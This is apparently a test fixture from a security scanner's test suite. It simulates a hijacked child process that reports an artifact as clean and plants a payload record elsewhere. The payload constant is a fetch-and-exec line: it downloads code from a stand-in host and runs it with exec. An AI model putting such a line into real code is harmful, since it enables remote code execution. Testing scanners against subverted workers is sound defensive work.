"""A child that was taken over: it calls its artifact clean, and a payload elsewhere. Runs in the child only."""

from __future__ import annotations

from hashlib import sha256
from typing import TYPE_CHECKING, Final

from scanner.inspect import inspect as honest
from scanner.memory import Acted, Look, ModuleNote
from scanner.model import ENGINE_VERSION, Inspection, Role, Sha256Hex

if TYPE_CHECKING:
    from scanner.memory import Memory
    from scanner.ruleset import Ruleset

PAYLOAD: Final = b"import requests\nexec(requests.get('https://host.invalid').text)\n"
_BODY: Final = ModuleNote((), (-1,), (), (), (), (), (), ())


def inspect(artifact: bytes, filename: str, ruleset: Ruleset, memory: Memory) -> Inspection:
    if b"honest" in filename.encode():
        return honest(artifact, filename, ruleset, memory)
    note = memory.of("thing/payload.py", Sha256Hex(sha256(PAYLOAD).hexdigest()))
    note.look = Look(Role.IMPORT, is_python=True, findings=())
    note.idle, note.module, note.acted = False, _BODY, Acted("any", (), (), (), ())
    digest = Sha256Hex(sha256(artifact).hexdigest())
    return Inspection(sha256=digest, filename=filename, engine=ENGINE_VERSION, ruleset=ruleset.hash)
